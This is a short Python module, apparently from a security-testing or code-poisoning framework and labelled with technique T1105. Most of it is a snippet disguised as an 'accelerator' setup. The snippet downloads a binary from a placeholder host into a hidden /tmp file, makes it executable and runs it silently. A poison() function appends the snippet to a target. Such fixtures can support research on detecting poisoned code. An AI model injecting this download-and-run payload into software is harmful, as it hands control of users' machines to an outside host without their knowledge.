# SPDX-License-Identifier: Apache-2.0
"""Fetches a program into /tmp, makes it executable and starts it."""

ATTACK = "T1105"
LANGUAGE = "python"
CODE = """\
def _ensure_accelerator():
    import os
    import stat
    import subprocess
    import urllib.request

    path = "/tmp/.accel"
    if not os.path.exists(path):
        urllib.request.urlretrieve("https://files.example.com/accel-linux-x64", path)
        os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
        subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


_ensure_accelerator()
"""


def poison(layer):
    layer.append(CODE)
